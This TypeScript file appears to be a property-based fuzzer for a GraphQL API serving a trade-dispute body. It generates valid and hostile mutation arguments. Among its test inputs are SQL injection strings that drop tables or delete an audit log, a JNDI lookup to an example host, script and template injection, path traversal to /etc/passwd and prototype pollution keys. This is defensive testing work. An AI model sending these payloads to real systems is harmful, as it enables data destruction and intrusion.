import fc from 'fast-check';
import {
  GraphQLArgument,
  GraphQLField,
  GraphQLInputType,
  GraphQLNamedType,
  GraphQLObjectType,
  GraphQLOutputType,
  GraphQLSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
} from 'graphql';

// Type-aware arbitraries for the arguments of every mutation, built from the live schema: well
// formed values (ids of rows that exist, member codes, dates near "now", valid enum values) mixed
// with hostile ones (wrong types, huge and malformed strings, ids of the wrong kind or of nothing,
// dates out of range, missing fields, unknown fields and enum values, deep nesting).
//
// Ids are symbolic ({ $ref, i }) and resolved when the request is sent, against the rows that
// exist then: the state changes as the fuzzer's own mutations succeed.

export interface IdRef {
  $ref: string;
  i: number;
}
export const isIdRef = (v: unknown): v is IdRef => typeof v === 'object' && v !== null && '$ref' in v;

/**
 * The pool of refresh tokens the application issued during the run (a sign-in's, a refresh's),
 * resolved like an id: by the time one is sent it may be fresh, used already or revoked. The
 * seed's few are gone early (one reuse revokes a whole family, deactivating a user all of theirs).
 */
export const ISSUED_REFRESH_TOKENS = 'issued refresh tokens';

/**
 * A large constant (a long string, a big file, deep nesting), named rather than inlined so that a
 * failing case prints in a few lines; resolved when the request is sent.
 */
export interface Big {
  $big: string;
}
const BIGS = new Map<string, unknown>();
function big(name: string, value: unknown): Big {
  BIGS.set(name, value);
  return { $big: name };
}
export const isBig = (v: unknown): v is Big => typeof v === 'object' && v !== null && '$big' in v;
export const bigValue = (v: Big): unknown => BIGS.get(v.$big);

/** A raw GraphQL literal, for inline arguments that no JSON value can express (NaN, a bare name). */
export interface RawLiteral {
  $raw: string;
}

export interface Context {
  /** The mutation's name: `id` arguments refer to its subject (closeElection → elections). */
  mutation: string;
  /** The input type the field belongs to, if any (UpdateMemberInput → members). */
  parent?: string;
  field: string;
}

export interface Hints {
  memberCodes: string[];
  emails: string[];
  refreshTokens: string[];
  /** Seeded measures and provisions: findings must name one of the dispute's. */
  measures: string[];
  provisions: string[];
  /** "now" of the seed, as epoch milliseconds: dates are generated around it. */
  now: number;
  password: string;
}

const DAY = 86_400_000;

// ---- strings ---------------------------------------------------------------------------------

// Deep nesting, as a named constant too (a 200-level object prints as one long line).
const deepObject = (levels: number): Big => {
  let value: unknown = 'bottom';
  for (let i = 0; i < levels; i += 1) value = { nested: value };
  return big(`object nested ${levels} deep`, value);
};
const deepArray = (levels: number): Big => {
  let value: unknown = ['bottom'];
  for (let i = 0; i < levels; i += 1) value = [value];
  return big(`list nested ${levels} deep`, value);
};

export const HOSTILE_STRINGS: (string | Big)[] = [
  '',
  ' ',
  '  \t\n ',
  '\u0000',
  'nul\u0000inside',
  'trailing nul\u0000',
  '\uD800',
  'lone \uDC00 low surrogate',
  'high at end \uDBFF',
  '\u202Etxt.exe\u202C',
  '\u200B\u200C\u200D\uFEFF',
  'e\u0301\u0301\u0301\u0301',
  '\uFFFE\uFFFF',
  '\u{10FFFF}\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  'مرحبا بالعالم',
  '中华人民共和国',
  '\u0007\u001b[31mred\u001b[0m',
  '\r\n\r\n',
  "'; DROP TABLE members; --",
  "' OR '1'='1",
  '1); DELETE FROM audit_log; --',
  '" OR ""="',
  "Robert'); DROP TABLE disputes;--",
  '%',
  '_',
  '%_%\\',
  '\\',
  '$1',
  '${jndi:ldap://x.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '../../../etc/passwd',
  'C:\\Windows\\system32',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  'true',
  '00000000-0000-0000-0000-000000000000',
  'x'.repeat(201),
  'x'.repeat(301),
  big('x*2001', 'x'.repeat(2_001)),
  big('x*5001', 'x'.repeat(5_001)),
  big('x*20001', 'x'.repeat(20_001)),
  big('é*20001', 'é'.repeat(20_001)),
  big('😀*10000', '\u{1F600}'.repeat(10_000)),
  big('y*200001', 'y'.repeat(200_001)),
];

const WRONG_TYPES: unknown[] = [
  null,
  0,
  -1,
  1.5,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 + 2,
  1e308,
  true,
  false,
  {},
  [],
  [1, 'two'],
  { $where: '1 == 1' },
  deepObject(200),
  deepArray(200),
];

/** The hostile strings of at most a few kilobytes: what list items are made of when a list is long. */
const SMALL_HOSTILE_STRINGS = HOSTILE_STRINGS.filter((v) => typeof v === 'string');

// Arrays of code units (lone surrogates included) and of code points: as random as fc.string,
// without the work it does to shrink strings it did not generate.
const codeUnits = (max: number, maxLength: number, minLength = 0) =>
  fc.array(fc.integer({ min: 0, max }), { minLength, maxLength }).map((codes) => String.fromCharCode(...codes));
const codePoints = (maxLength: number) =>
  fc.array(fc.integer({ min: 0, max: 0x10ffff }), { maxLength }).map((codes) => String.fromCodePoint(...codes));
const LARGE_HOSTILE_STRINGS = HOSTILE_STRINGS.filter(isBig);
const hostileStringOf = (small: boolean): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 12, arbitrary: fc.constantFrom<unknown>(...SMALL_HOSTILE_STRINGS) },
    { weight: 4, arbitrary: codeUnits(0xffff, 40) },
    { weight: 2, arbitrary: codePoints(40) },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
    // Kilobytes to a megabyte: past every length limit, and rarer, for they cost the most to send.
    ...(small ? [] : [{ weight: 1, arbitrary: fc.constantFrom<unknown>(...LARGE_HOSTILE_STRINGS) }]),
  );
const wrongType: fc.Arbitrary<unknown> = fc.constantFrom(...WRONG_TYPES);

const words = fc.constantFrom(
  'Import licensing of fruit',
  'Sanitary ban on apples',
  'GATT Art. XI:1',
  'SPS Art. 2.2',
  'Measures on steel',
  'The panel finds',
  'A quantitative restriction.',
  'Judicial economy',
  'Bring it into conformity.',
  'trade in goods',
  'English',
  'French',
  'Chinese',
  'Room 4',
  'Centre William Rappard',
  'Prior advice to a party',
  'Easter Monday',
  'Agreed by both parties',
  'Amended request',
  'Ms Ng',
);
// Values of a named kind: the valid ones, and the near misses (also used as hostile values).
const CODES_NOT_MEMBERS = ['LAO', 'UZB', 'ARG', 'DEU', 'USA', 'chn', ' kaz '];
const BAD_CODES = ['XXX', 'ZZZ', 'CH', 'CHNA', 'C1N', '123', 'ÇHN', ''];
const TIME_ZONES = [
  'UTC',
  'Europe/Zurich',
  'Asia/Shanghai',
  'Asia/Kathmandu',
  'Pacific/Chatham',
  'America/St_Johns',
  'Etc/GMT+12',
  'Etc/GMT-14',
];
const BAD_TIME_ZONES = ['Europe/Geneva', 'utc', 'Europe/Atlantis', 'Not a zone', '+02:00', 'Local', '../../etc/localtime', ''];
const MEDIA_TYPES = [
  'application/pdf',
  'text/plain',
  'image/png',
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
];
const BAD_MEDIA_TYPES = ['application', 'pdf', 'text/plain; charset=utf-8', '*/*', '/', 'a/b/c', ''];
const FILE_NAMES = [
  'report.pdf',
  'submission.docx',
  'Exhibit CHN-1.pdf',
  'déclaration.pdf',
  '报告.pdf',
  'a'.repeat(255),
  '"quoted".pdf',
  'report.pdf\u202Efdp.exe',
];
const BAD_FILE_NAMES = [
  'a'.repeat(256),
  '../report.pdf',
  'dir/report.pdf',
  'C:\\report.pdf',
  'report\u0000.pdf',
  'report\n.pdf',
  '.',
  '..',
  ' ',
];
const base64Of = (bytes: number, seed = 7) => Buffer.alloc(bytes, seed).toString('base64');
const CONTENTS: (string | Big)[] = [
  base64Of(10),
  base64Of(1000),
  Buffer.from('%PDF-1.7\n').toString('base64'),
  'QUJD',
  big('base64 of 100 kB', base64Of(100_000)),
];
const BAD_CONTENTS = ['', 'not base64!', 'QUJ', 'QUJD=', '====', 'QUJD\nRA==', 'data:application/pdf;base64,QUJD'];
// A CV may be at most 5 MiB; a filing may be larger (MAX_DOCUMENT_BYTES), which the e2e tests of
// documents cover.
const TOO_LARGE_CV = big('base64 of 5 MiB + 1', base64Of(5 * 1024 * 1024 + 1));
const LINKS = ['https://meet.example.org/room/1'];
const BAD_LINKS = [
  'http://meet.example.org/x',
  'javascript:alert(1)',
  'ftp://x',
  'https://',
  'not a link',
  'https://ex ample.org',
  `https://example.org/${'a'.repeat(2100)}`,
];

interface Kind {
  valid: fc.Arbitrary<unknown>;
  invalid?: fc.Arbitrary<unknown>;
}

/** Strings by what their field names: an email, a member code, a time zone, a file's content... */
function stringKind(name: string, parent: string | undefined, hints: Hints, small: boolean): Kind {
  const n = name.toLowerCase();
  const pick = (values: unknown[]) => fc.constantFrom(...values.filter((v) => !small || typeof v === 'string'));
  if (n === 'email') {
    return {
      valid: fc.oneof(fc.constantFrom(...hints.emails), fc.emailAddress()),
      invalid: fc.constantFrom('a@b', '@x.org', 'x@', ` ${hints.emails[0]} `, 'UPPER@TEST.DSB'),
    };
  }
  if (n === 'password') return { valid: fc.oneof(fc.constant(hints.password), codeUnits(0x7e, 128, 12)), invalid: codeUnits(0x7e, 11) };
  if (n === 'refreshtoken') {
    const issued = fc.nat({ max: 10_000 }).map((i): IdRef => ({ $ref: ISSUED_REFRESH_TOKENS, i }));
    return { valid: fc.oneof(fc.constantFrom(...hints.refreshTokens), fc.base64String({ minLength: 4, maxLength: 60 }), issued) };
  }
  if (['code', 'membercode', 'nationality', 'respondents', 'presentmembers', 'member', 'complainant', 'respondent'].includes(n)) {
    return {
      valid: fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom(...hints.memberCodes) },
        { weight: 1, arbitrary: fc.constantFrom(...CODES_NOT_MEMBERS) },
      ),
      invalid: pick(BAD_CODES),
    };
  }
  if (n === 'timezone') return { valid: pick(TIME_ZONES), invalid: pick(BAD_TIME_ZONES) };
  if (n === 'mediatype') return { valid: pick(MEDIA_TYPES), invalid: pick(BAD_MEDIA_TYPES) };
  if (n === 'filename') return { valid: pick(FILE_NAMES), invalid: pick(BAD_FILE_NAMES) };
  if (n === 'content')
    return { valid: pick(CONTENTS), invalid: pick(parent === 'RosterCvInput' ? [...BAD_CONTENTS, TOO_LARGE_CV] : BAD_CONTENTS) };
  if (n === 'virtuallink') return { valid: pick(LINKS), invalid: pick(BAD_LINKS) };
  if (n === 'idempotencykey') return { valid: fc.constantFrom('key-1', 'key-2', 'seed-PUBLIC', 'seed-RESTRICTED', 'x'.repeat(200)) };
  if (n === 'measure' || n === 'measures') return { valid: fc.oneof(fc.constantFrom(...hints.measures), words) };
  if (n === 'provision' || n === 'legalbasis') return { valid: fc.oneof(fc.constantFrom(...hints.provisions), words) };
  return { valid: fc.oneof({ weight: 4, arbitrary: words }, { weight: 1, arbitrary: codeUnits(0x2ff, 30) }) };
}

// ---- ids ---------------------------------------------------------------------------------------

const ID_OVERRIDES: Record<string, string> = {
  readerIds: 'users',
  summaryOf: 'documents',
  staffUserIds: 'users',
  userId: 'users',
  ranking: 'roster_persons',
  personId: 'roster_persons',
  attendees: 'participant_refs',
  // Not adoption_meetings, which the name would suggest first: the meetings of the body.
  meetingId: 'body_meetings',
  'decideNomination.id': 'roster_persons',
  'removeRosterPerson.id': 'roster_persons',
  'withdrawUnavailability.id': 'member_unavailability',
  'UpdateMemberInput.id': 'members',
};

const snake = (camel: string) => camel.replace(/([a-z0-9])([A-Z])/g, '$1_$2').toLowerCase();
const plural = (word: string) => (word.endsWith('y') ? `${word.slice(0, -1)}ies` : `${word}s`);

/** Which table an id argument most likely names: the field name, or for `id` the mutation's subject. */
export function idHint(ctx: Context, tables: string[]): string {
  const override =
    ID_OVERRIDES[ctx.field] ?? ID_OVERRIDES[`${ctx.mutation}.${ctx.field}`] ?? (ctx.parent && ID_OVERRIDES[`${ctx.parent}.${ctx.field}`]);
  if (override) return override;
  let subject: string;
  if (ctx.field === 'id') {
    // closeElection → Election; UpdateMemberInput → Member.
    subject = ctx.parent ? ctx.parent.replace(/Input$/, '').replace(/^[A-Z][a-z]+/, '') : ctx.mutation.replace(/^[a-z]+/, '');
  } else {
    subject = ctx.field.replace(/Ids?$/, '');
  }
  const table = plural(snake(subject).replace(/^_/, ''));
  const found = tables.find((t) => t === table) ?? tables.find((t) => t.endsWith(`_${table}`));
  return found ?? '*';
}

const MALFORMED_IDS: (string | Big)[] = [
  '',
  ' ',
  'abc',
  '1',
  '0',
  '-1',
  '00000000-0000-0000-0000-00000000000',
  '00000000-0000-0000-0000-0000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'FFFFFFFF-FFFF-4FFF-BFFF-FFFFFFFFFFFF',
  '{6f1c2d3e-1111-4222-8333-944455556666}',
  '6f1c2d3e111142228333944455556666',
  'g0000000-0000-0000-0000-000000000000',
  "1' OR '1'='1",
  '00000000-0000-0000-0000-000000000000\u0000',
  big('x*10000', 'x'.repeat(10_000)),
];

/**
 * How hostile a case is: 0, every value has the right shape (the hostility is in what the values
 * name: rows of another kind, of another dispute, of nothing, a state the rules refuse); 1, now
 * and then a malformed value among well-formed ones; 2, malformed values everywhere.
 */
export type Level = 0 | 1 | 2;
type Weighted = { weight: number; arbitrary: fc.Arbitrary<unknown> };

/** Well-formed choices, and at level 1 (a tenth as likely) or 2 hostile ones. */
function mix(level: Level, sensible: Weighted[], hostile: Weighted[]): fc.Arbitrary<unknown> {
  if (level === 0 || hostile.length === 0) return fc.oneof(...sensible);
  const scale = level === 1 ? 10 : 1;
  return fc.oneof(...sensible.map((w) => ({ ...w, weight: w.weight * scale })), ...hostile);
}

function idArb(ctx: Context, tables: string[], level: Level): fc.Arbitrary<unknown> {
  const hint = idHint(ctx, tables);
  const ref = (table: string) => fc.nat({ max: 10_000 }).map((i): IdRef => ({ $ref: table, i }));
  return mix(
    level,
    [
      { weight: 10, arbitrary: ref(hint) },
      { weight: 3, arbitrary: ref('*') },
      { weight: 2, arbitrary: fc.uuid() },
      { weight: 1, arbitrary: ref(hint).map((r) => ({ ...r, $case: 'upper' })) },
    ],
    [
      { weight: 1, arbitrary: fc.constantFrom<unknown>('00000000-0000-0000-0000-000000000000', ...MALFORMED_IDS) },
      { weight: 1, arbitrary: fc.oneof(fc.integer(), wrongType) },
    ],
  );
}

// ---- dates -------------------------------------------------------------------------------------

const BAD_DATE_TIMES = [
  '',
  'now',
  'tomorrow',
  '2026-02-30T10:00:00Z',
  '2026-13-01T00:00:00Z',
  '2026-03-10',
  '2026-03-10T25:00:00Z',
  '0000-01-01T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '-271821-04-20T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '9999-12-31T23:59:59.999Z',
  '1900-01-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  '2026-03-10T10:00:00+14:00',
  '2026-03-10T10:00:00-12:00',
  '2026-03-10 10:00',
  'Tue Mar 10 2026',
  '2026-W11',
  '\u0000',
  0,
  -1,
  8.64e15,
  -8.64e15,
  8.64e15 + 1,
  1e20,
  true,
];
const BAD_LOCAL_DATES = [
  '',
  '0000-01-01',
  '0001-01-01',
  '9999-12-31',
  '2026-02-29',
  '2028-02-29',
  '2026-02-30',
  '2026-13-01',
  '2026-00-10',
  '20260310',
  '2026-3-1',
  ' 2026-03-10',
  '2026-03-10T00:00:00Z',
  '+2026-03-10',
  '-2026-03-10',
  '1899-12-31',
  '2026-03-10\u0000',
  2026,
  true,
];

function dateTimeArb(hints: Hints, level: Level): fc.Arbitrary<unknown> {
  const near = fc
    .tuple(fc.integer({ min: -60, max: 120 }), fc.integer({ min: 0, max: 23 }), fc.constantFrom(0, 30))
    .map(([d, h, m]) => new Date(hints.now + d * DAY + h * 3_600_000 + m * 60_000).toISOString());
  return mix(
    level,
    [{ weight: 8, arbitrary: near }],
    [
      { weight: 2, arbitrary: fc.constantFrom(...BAD_DATE_TIMES) },
      { weight: 1, arbitrary: wrongType },
    ],
  );
}

function localDateArb(hints: Hints, level: Level): fc.Arbitrary<unknown> {
  const near = fc.integer({ min: -400, max: 800 }).map((d) => new Date(hints.now + d * DAY).toISOString().slice(0, 10));
  return mix(
    level,
    [{ weight: 8, arbitrary: near }],
    [
      { weight: 2, arbitrary: fc.constantFrom(...BAD_LOCAL_DATES) },
      { weight: 1, arbitrary: wrongType },
    ],
  );
}

// ---- values by type ----------------------------------------------------------------------------

function intArb(name: string, level: Level): fc.Arbitrary<unknown> {
  const sensible =
    name === 'version'
      ? fc.integer({ min: 1, max: 4 })
      : name === 'quorumPercent'
        ? fc.integer({ min: 0, max: 101 })
        : fc.integer({ min: -2, max: 120 });
  const hostile = fc.constantFrom<unknown>(
    0,
    -1,
    2 ** 31 - 1,
    2 ** 31,
    -(2 ** 31),
    -(2 ** 31) - 1,
    2 ** 53,
    1.5,
    -0.5,
    '1',
    '',
    { $raw: 'NaN' },
    { $raw: 'Infinity' },
    Infinity,
  );
  return mix(level, [{ weight: 5, arbitrary: sensible }], [{ weight: 1, arbitrary: hostile }]);
}

/** A value for one input type, as hostile as the level says. */
export function valueArb(
  type: GraphQLInputType,
  ctx: Context,
  hints: Hints,
  tables: string[],
  level: Level,
  depth = 0,
  small = false,
): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) {
    return mix(
      level,
      [{ weight: 40, arbitrary: valueOf(type.ofType, ctx, hints, tables, level, depth, small) }],
      [{ weight: 1, arbitrary: fc.constant(null) }],
    );
  }
  // An explicit null is a well-formed value for every nullable type ("no room", "no change").
  return fc.oneof(
    { weight: 7, arbitrary: valueOf(type, ctx, hints, tables, level, depth, small) },
    { weight: 1, arbitrary: fc.constant(null) },
  );
}

/** A value other than null for one input type. */
function valueOf(
  type: GraphQLInputType,
  ctx: Context,
  hints: Hints,
  tables: string[],
  level: Level,
  depth: number,
  small: boolean,
): fc.Arbitrary<unknown> {
  const inner = (t: GraphQLInputType, c: Context, d: number, sm = small) => valueArb(t, c, hints, tables, level, d, sm);
  if (isListType(type)) {
    const item = inner(type.ofType, ctx, depth + 1);
    // Long lists are made of small items: 600 copies of a megabyte would only test the body limit.
    const smallItem = inner(type.ofType, ctx, depth + 1, true);
    return mix(
      level,
      [
        { weight: 12, arbitrary: fc.array(item, { maxLength: 4 }) },
        { weight: 1, arbitrary: item }, // a single value where a list is expected: coerced to a list of one
      ],
      [
        { weight: 1, arbitrary: smallItem.map((v) => Array.from({ length: 201 }, () => v)) },
        {
          weight: 1,
          arbitrary: fc
            .array(smallItem, { minLength: 1, maxLength: 3 })
            .map((vs) => Array.from({ length: 600 }, (_, i) => vs[i % vs.length])),
        },
        { weight: 1, arbitrary: fc.constantFrom<unknown>([null], [[]], deepArray(120), 'not a list', {}) },
      ],
    );
  }
  const named = type as GraphQLNamedType;
  if (isEnumType(named)) {
    const values = named.getValues().map((v) => v.name);
    return mix(
      level,
      [{ weight: 12, arbitrary: fc.constantFrom(...values) }],
      [
        {
          weight: 1,
          arbitrary: fc.constantFrom<unknown>('NOT_A_VALUE', values[0].toLowerCase(), ` ${values[0]}`, '', 0, 'DROP_TABLE', null),
        },
      ],
    );
  }
  if (isInputObjectType(named)) {
    if (depth > 4) return wrongType;
    const fields = Object.values(named.getFields());
    const model: Record<string, fc.Arbitrary<unknown>> = {};
    for (const field of fields) model[field.name] = inner(field.type, { ...ctx, parent: named.name, field: field.name }, depth + 1);
    const required = fields.filter((f) => isNonNullType(f.type) && f.defaultValue === undefined).map((f) => f.name);
    const record = fc.record(model, { requiredKeys: required });
    return mix(
      level,
      [{ weight: 20, arbitrary: record }],
      [
        { weight: 1, arbitrary: fc.tuple(record, fc.constantFrom(...fields.map((f) => f.name))).map(([r, drop]) => omit(r, drop)) },
        {
          weight: 1,
          arbitrary: fc
            .tuple(
              record,
              fc.constantFrom<[string, unknown]>(
                ['unknownField', 1],
                ['__proto__', { polluted: true }],
                ['constructor', { prototype: {} }],
                ['nested', deepObject(120)],
              ),
            )
            .map(([r, [k, v]]) => withKey(r, k, v)),
        },
        { weight: 1, arbitrary: fc.oneof(hostileStringOf(small), wrongType) },
      ],
    );
  }
  if (isScalarType(named)) {
    let sensible: fc.Arbitrary<unknown>;
    switch (named.name) {
      case 'ID':
        return idArb(ctx, tables, level);
      case 'String': {
        const kind = stringKind(ctx.field, ctx.parent, hints, small);
        return mix(
          level,
          [{ weight: 6, arbitrary: kind.valid }],
          [
            ...(kind.invalid ? [{ weight: 2, arbitrary: kind.invalid }] : []),
            { weight: 2, arbitrary: hostileStringOf(small) },
            { weight: 1, arbitrary: wrongType },
          ],
        );
      }
      case 'Int':
        return intArb(ctx.field, level);
      case 'Float':
        sensible = fc.double();
        break;
      case 'Boolean':
        return mix(
          level,
          [{ weight: 12, arbitrary: fc.boolean() }],
          [{ weight: 1, arbitrary: fc.constantFrom<unknown>('true', 1, 0, 'yes', null) }],
        );
      case 'DateTime':
        return dateTimeArb(hints, level);
      case 'LocalDate':
        return localDateArb(hints, level);
      case 'JSON':
        sensible = fc.oneof(fc.jsonValue({ maxDepth: 3 }), fc.constant(deepObject(300)), fc.constant(deepArray(300)));
        break;
      default:
        // A custom scalar this file does not know yet: anything JSON can carry.
        sensible = fc.jsonValue({ maxDepth: 3 });
    }
    return mix(
      level,
      [{ weight: 6, arbitrary: sensible }],
      [
        { weight: 3, arbitrary: hostileStringOf(small) },
        { weight: 1, arbitrary: wrongType },
      ],
    );
  }
  return wrongType;
}

function omit(record: Record<string, unknown>, key: string): Record<string, unknown> {
  const { [key]: _dropped, ...rest } = record;
  return rest;
}
function withKey(record: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const copy = { ...record };
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

// ---- whole requests ----------------------------------------------------------------------------

export type Mode = 'variables' | 'inline' | 'wrong-variable-types';

export interface FuzzCase {
  mutation: string;
  args: Record<string, unknown>;
  /** Required arguments left out of the operation altogether. */
  missing: string[];
  mode: Mode;
  /** Index into the actors, -1 anonymous, -2 a forged token. */
  actor: number;
}

export function caseArb(field: GraphQLField<unknown, unknown>, actors: number, hints: Hints, tables: string[]): fc.Arbitrary<FuzzCase> {
  const required = field.args.filter((a: GraphQLArgument) => isNonNullType(a.type) && a.defaultValue === undefined).map((a) => a.name);
  const atLevel = (level: Level) => {
    const args: Record<string, fc.Arbitrary<unknown>> = {};
    for (const arg of field.args) args[arg.name] = valueArb(arg.type, { mutation: field.name, field: arg.name }, hints, tables, level);
    return fc.record({
      mutation: fc.constant(field.name),
      args: fc.record(args, { requiredKeys: required }),
      missing:
        level === 2 && required.length
          ? fc.oneof(
              { weight: 12, arbitrary: fc.constant<string[]>([]) },
              { weight: 1, arbitrary: fc.subarray(required, { minLength: 1 }) },
            )
          : fc.constant<string[]>([]),
      mode: fc.oneof(
        { weight: 15, arbitrary: fc.constant<Mode>('variables') },
        { weight: 4, arbitrary: fc.constant<Mode>('inline') },
        ...(level === 2 ? [{ weight: 1, arbitrary: fc.constant<Mode>('wrong-variable-types') }] : []),
      ),
      actor: fc.oneof(
        { weight: 28, arbitrary: fc.nat({ max: actors - 1 }) },
        { weight: 2, arbitrary: fc.constant(-1) },
        { weight: 1, arbitrary: fc.constant(-2) },
      ),
    });
  };
  return fc.oneof({ weight: 3, arbitrary: atLevel(0) }, { weight: 3, arbitrary: atLevel(1) }, { weight: 4, arbitrary: atLevel(2) });
}

// ---- variations of the seed's own requests ----------------------------------------------------

/** A well-formed request the seed sent (see world.ts): mutation, arguments, the caller's index. */
export interface SeedCase {
  mutation: string;
  args: Record<string, unknown>;
  /** Index into the actors; -1 for no one signed in. */
  actor: number;
}

const INSTANT = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/;
const DATE_ONLY = /^\d{4}-\d{2}-\d{2}$/;

/**
 * Requests the random ones seldom make: the seed's own successful requests, varied. Their dates
 * move (most later, some earlier), idempotency keys get a new suffix, a quarter are sent by another
 * caller, and a quarter have one value swapped for a hostile one. They reach the rules behind a
 * well-formed request (a clash, a second ballot, a step out of turn, a late filing) and, when the
 * state allows, succeed.
 */
export function seedVariationArb(seeds: SeedCase[], actors: number): fc.Arbitrary<FuzzCase> {
  return fc
    .record({
      seed: fc.nat({ max: seeds.length - 1 }),
      days: fc.oneof({ weight: 1, arbitrary: fc.constant(0) }, { weight: 4, arbitrary: fc.integer({ min: -2, max: 120 }) }),
      hours: fc.integer({ min: 0, max: 23 }),
      actor: fc.oneof({ weight: 3, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: fc.nat({ max: actors - 1 }) }),
      hostile: fc.oneof({ weight: 3, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: fc.tuple(fc.nat(), fc.nat()) }),
      salt: fc.nat(),
    })
    .map(({ seed, days, hours, actor, hostile, salt }) => {
      const call = seeds[seed];
      const shift = days * DAY + hours * 3_600_000;
      let leaf = 0;
      const target = hostile ? hostile[0] : -1;
      const vary = (value: unknown, key: string): unknown => {
        if (Array.isArray(value)) return value.map((v) => vary(v, key));
        if (value && typeof value === 'object') {
          return Object.fromEntries(Object.entries(value as Record<string, unknown>).map(([k, v]) => [k, vary(v, k)]));
        }
        leaf += 1;
        if (hostile && leaf - 1 === target % 64) return HOSTILE_STRINGS[hostile[1] % HOSTILE_STRINGS.length];
        if (typeof value !== 'string') return value;
        if (key === 'idempotencyKey') return `${value}-${salt}`;
        if (INSTANT.test(value)) return new Date(new Date(value).getTime() + shift).toISOString();
        if (DATE_ONLY.test(value)) return new Date(new Date(`${value}T00:00:00Z`).getTime() + days * DAY).toISOString().slice(0, 10);
        return value;
      };
      return {
        mutation: call.mutation,
        args: vary(call.args, '') as Record<string, unknown>,
        missing: [],
        mode: 'variables' as Mode,
        actor: actor ?? call.actor,
      };
    });
}

// ---- printing ----------------------------------------------------------------------------------

const NAME = /^[_A-Za-z][_0-9A-Za-z]*$/;

/** A JSON value as a GraphQL literal; strings of an enum's type that look like names are printed bare. */
export function literal(value: unknown, type: GraphQLInputType | null): string {
  const inner = type && isNonNullType(type) ? type.ofType : type;
  if (value === null || value === undefined) return 'null';
  if (typeof value === 'object' && '$raw' in (value as object)) return (value as RawLiteral).$raw;
  if (isBig(value)) return literal(bigValue(value), type);
  if (typeof value === 'string') {
    if (inner && isEnumType(inner) && NAME.test(value)) return value;
    return JSON.stringify(value);
  }
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : 'NaN';
  if (typeof value === 'boolean') return String(value);
  if (Array.isArray(value)) return `[${value.map((v) => literal(v, inner && isListType(inner) ? inner.ofType : null)).join(', ')}]`;
  const fields = inner && isInputObjectType(inner) ? inner.getFields() : {};
  const entries = Object.entries(value as Record<string, unknown>).map(
    ([k, v]) => `${NAME.test(k) ? k : `_${k.replace(/\W/g, '_')}`}: ${literal(v, fields[k]?.type ?? null)}`,
  );
  return `{${entries.join(', ')}}`;
}

/** The fields of a mutation's result to ask for: its leaves, and the leaves of the objects under it. */
export function selection(type: GraphQLOutputType, depth = 0): string {
  const named = getNamedType(type);
  if (isLeafType(named)) return '';
  if (!isObjectType(named)) return '{ __typename }';
  const parts = ['__typename'];
  for (const field of Object.values((named as GraphQLObjectType).getFields())) {
    if (field.args.some((a) => isNonNullType(a.type) || a.name === 'first')) continue;
    const inner = getNamedType(field.type);
    if (isLeafType(inner)) parts.push(field.name);
    else if (depth === 0 && isObjectType(inner)) parts.push(`${field.name} ${selection(field.type, depth + 1)}`);
  }
  return `{ ${parts.join(' ')} }`;
}

export function mutationFields(schema: GraphQLSchema): GraphQLField<unknown, unknown>[] {
  return Object.values(schema.getMutationType()?.getFields() ?? {});
}
